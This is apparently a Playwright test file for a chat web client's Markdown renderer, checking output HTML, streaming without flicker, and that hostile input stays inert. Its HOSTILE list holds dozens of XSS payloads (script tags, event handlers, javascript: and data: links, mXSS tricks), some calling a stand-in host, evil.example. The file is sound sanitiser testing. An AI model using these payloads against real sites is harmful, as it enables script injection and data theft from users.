"""Markdown on the page: what it becomes, that it stays inert, and how it behaves half-arrived."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.gateway.web.conftest import OpenPage

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Dialog, Page

    from tests.gateway.web.scripted_server import ScriptedServer

pytestmark = pytest.mark.browser

RENDER = """async (text) => {
  const { MarkdownView } = await import("/js/markdown.js");
  const root = document.createElement("div");
  root.className = "prose";
  root.id = "sample";
  document.getElementById("sample")?.remove();
  document.getElementById("scroller").append(root);
  new MarkdownView(root).finish(text);
  return root.innerHTML;
}"""

STREAM = """async (pieces) => {
  const { MarkdownView } = await import("/js/markdown.js");
  const view = new MarkdownView(document.createElement("div"));
  const root = document.createElement("div");
  const streamed = new MarkdownView(root);
  let text = "";
  const shown = [];
  for (const piece of pieces) {
    streamed.update((text += piece));
    shown.push(root.textContent);
  }
  streamed.finish(text);
  return [shown, root.innerHTML];
}"""


@pytest.fixture(scope="module")
def render_page(chromium: Browser, _running_server: ScriptedServer) -> Iterator[Page]:
    """One page for all cases of the module: rendering leaves nothing behind."""
    context = chromium.new_context()
    page = context.new_page()
    faults: list[str] = []

    def dismissed(dialog: Dialog) -> None:
        faults.append("a dialog opened")
        dialog.dismiss()

    page.on("pageerror", lambda error: faults.append(str(error)))
    page.on("dialog", dismissed)
    page.on(
        "request",
        lambda request: (
            None if request.url.startswith(_running_server.url) else faults.append(request.url)
        ),
    )
    page.goto(_running_server.url)
    page.wait_for_selector("#key-dialog[open]")
    yield page
    page.wait_for_timeout(100)  # time for a request or a handler that should not be
    context.close()
    assert not faults


CASES = {
    "# A\n\n###### B": "<h3>A</h3><h6>B</h6>",
    "one\ntwo": "<p>one<br>two</p>",
    "**b** *i* ~~d~~ `c<1`": (
        "<p><strong>b</strong> <em>i</em> <del>d</del> <code>c&lt;1</code></p>"
    ),
    "- a\n- b": "<ul><li><span>a</span></li><li><span>b</span></li></ul>",
    "3. a\n4. b": '<ol start="3"><li><span>a</span></li><li><span>b</span></li></ol>',
    "> q": "<blockquote><p>q</p></blockquote>",
    "---": "<hr>",
    "a \\* b": "<p>a * b</p>",
    "&lt;b&gt; &amp; &mdash; &#8364; &bogus;": "<p>&lt;b&gt; &amp; — € &amp;bogus;</p>",
    "[t](https://e.org/?a&b)": (
        '<p><a href="https://e.org/?a&amp;b" target="_blank" rel="noopener noreferrer">t</a></p>'
    ),
    "![alt](https://e.org/i.png)": (
        '<p><a href="https://e.org/i.png" target="_blank" rel="noopener noreferrer">alt</a></p>'
    ),
    "1 < 2 && 3 > 2": "<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>",
}


@pytest.mark.parametrize("markdown", CASES)
def test_markdown_becomes(render_page: Page, markdown: str) -> None:
    assert render_page.evaluate(RENDER, markdown) == CASES[markdown]


def test_nested_lists_and_tasks(render_page: Page) -> None:
    render_page.evaluate(RENDER, "- [x] done\n- [ ] open\n  1. inner\n  2. more")
    assert render_page.locator("#sample .task input").count() == 2
    assert render_page.locator("#sample input:checked").count() == 1
    assert render_page.locator("#sample li > ol > li").count() == 2


def test_tables_keep_alignment_and_scroll_by_themselves(render_page: Page) -> None:
    render_page.evaluate(RENDER, "|a|b|\n|:-:|--:|\n|`x`|**y**|")
    sample = render_page.locator("#sample .table-scroll table")
    assert sample.locator("th").first.get_attribute("class") == "align-center"
    assert sample.locator("td").last.get_attribute("class") == "align-right"
    assert sample.locator("td code").inner_text() == "x"


def test_code_blocks_keep_every_character_and_name_the_language(render_page: Page) -> None:
    source = 'if a < b && c:\n\tprint("<script>")\n\n  # end'
    render_page.evaluate(RENDER, f"```python title=x\n{source}\n```")
    assert render_page.locator("#sample pre code").text_content() == source
    assert render_page.locator("#sample .code-bar span").inner_text() == "python"


HOSTILE = [
    "<script>alert(1)</script>",
    "before <script src=https://evil.example/x.js></script> after",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "![p](https://evil.example/pixel.png)",
    "![p](javascript:alert(1))",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import 'https://evil.example/a.css';body{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=q autofocus onfocus=alert(1)></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](blob:https://evil.example/1)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://e.org "\\" onmouseover=alert(1) y=\\"")',
    '[x](https://e.org/" onmouseover=alert(1) y=")',
    '```"onmouseover=alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "``` <img src=x onerror=alert(1)>\nx\n```",
    "`</code><script>alert(1)</script>`",
    "|<script>alert(1)</script>|<img src=x onerror=alert(1)>|\n|-|-|\n|[x](javascript:alert(1))|b|",
    "- <script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "[__proto__]: x\n\n[constructor] [__proto__]",
]
ALLOWED = {
    "P", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "BLOCKQUOTE", "HR", "BR", "STRONG", "EM", "DEL",
    "CODE", "PRE", "SPAN", "A", "DIV", "BUTTON", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD",
}  # fmt: skip
INSPECT = """() => [...document.querySelectorAll("#sample *")].map((node) => ({
  name: node.tagName,
  attributes: Object.fromEntries([...node.attributes].map(({name, value}) => [name, value])),
}))"""


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_text_stays_text(render_page: Page, markdown: str) -> None:
    """Only elements the renderer knows, no handler, no target but http(s); both streamed and whole.

    The fixture also fails on any dialog and on any request to another host.
    """
    for text in (markdown, markdown[:-1], f"words {markdown}"):
        render_page.evaluate(RENDER, text)
        for node in render_page.evaluate(INSPECT):
            assert node["name"] in ALLOWED
            assert set(node["attributes"]) <= {
                "class", "href", "target", "rel", "tabindex", "type", "scope", "start",
            }  # fmt: skip
            if "href" in node["attributes"]:
                assert node["attributes"]["href"].startswith(("https://", "http://"))
                assert node["attributes"]["rel"] == "noopener noreferrer"
                assert node["name"] == "A"


def test_the_word_of_a_script_is_still_readable(render_page: Page) -> None:
    render_page.evaluate(RENDER, "Use <b>bold</b>\n\n<script>alert(1)</script>")
    assert render_page.inner_text("#sample").split("\n\n") == [
        "Use <b>bold</b>",
        "<script>alert(1)</script>",
    ]


def test_absurd_nesting_does_not_lose_the_words(render_page: Page) -> None:
    render_page.evaluate(RENDER, ">" * 20_000 + "deep")
    assert "deep" in (render_page.text_content("#sample") or "")


@pytest.mark.parametrize(
    ("pieces", "shown"),
    [
        (["a **bo", "ld** c"], ["a bo", "a bold c"]),
        (["a **", "b**"], ["a ", "a b"]),
        (["`co", "de`"], ["co", "code"]),
        (["~~ol", "d~~"], ["ol", "old"]),
        (
            ["see [the man", "ual](https://e.o", "rg)"],
            ["see [the man", "see the manual", "see the manual"],
        ),
        (["2 ** 3", " is 8"], ["2 ** 3", "2 ** 3 is 8"]),
        (["`a ** b", "`"], ["a ** b", "a ** b"]),
        (["one\n\n**t", "wo**"], ["onet", "onetwo"]),
    ],
)
def test_marks_do_not_flicker_while_text_arrives(
    render_page: Page, pieces: list[str], shown: list[str]
) -> None:
    assert render_page.evaluate(STREAM, pieces)[0] == shown


def test_an_open_fence_is_code_from_its_first_line(render_page: Page) -> None:
    shown, _ = render_page.evaluate(STREAM, ["```py\nx = **1", "\n", "```"])
    assert shown[0] == "pyCopyx = **1"


def test_streamed_and_whole_text_end_alike(render_page: Page) -> None:
    text = (
        "# T\n\nA *b* **c** `d`\n\n- x\n- y\n\n```js\nlet a;\n```\n\n"
        "|a|b|\n|-|-|\n|1|2|\n\n[r]\n\n[r]: https://e.org\n"
    )
    whole = render_page.evaluate(RENDER, text)
    _, streamed = render_page.evaluate(STREAM, list(text))
    assert streamed == whole


def test_blocks_that_did_not_change_are_not_built_again(render_page: Page) -> None:
    """A selection or a focused button in an earlier block survives the text that still arrives."""
    kept = render_page.evaluate(
        """async () => {
          const { MarkdownView } = await import("/js/markdown.js");
          const root = document.createElement("div");
          const view = new MarkdownView(root);
          view.update("first\\n\\n```\\ncode\\n```\\n\\nsec");
          const [first, code] = root.children;
          view.update("first\\n\\n```\\ncode\\n```\\n\\nsecond");
          return root.children[0] === first && root.children[1] === code
            && root.textContent.endsWith("second");
        }"""
    )
    assert kept


def test_a_long_answer_renders_in_time(render_page: Page) -> None:
    """100 kB on screen and one more token: well inside a frame budget of a slow machine."""
    milliseconds = render_page.evaluate(
        """async () => {
          const { MarkdownView } = await import("/js/markdown.js");
          const view = new MarkdownView(document.createElement("div"));
          const text = "Some **bold** words and `code` in a paragraph.\\n\\n".repeat(2000);
          view.update(text);
          const times = [];
          for (let more = "more"; times.length < 5; more += " more") {
            const begun = performance.now();
            view.update(text + more);
            times.push(performance.now() - begun);
          }
          return Math.min(...times); // the machine may have done something else meanwhile
        }"""
    )
    assert milliseconds < 200


def test_hostile_answers_through_the_whole_page(open_page: OpenPage, server) -> None:  # type: ignore[no-untyped-def]
    page = open_page()
    server.say(*[text[i : i + 7] for text in HOSTILE[:12] for i in range(0, len(text), 7)])
    page.fill("#prompt", "<img src=x onerror=alert(1)>")
    page.press("#prompt", "Enter")
    page.wait_for_selector(".turn:last-child[aria-busy=false]")
    assert page.locator("#transcript :is(script, img, iframe, svg, style, form, base)").count() == 0
    assert page.inner_text(".question") == "<img src=x onerror=alert(1)>"
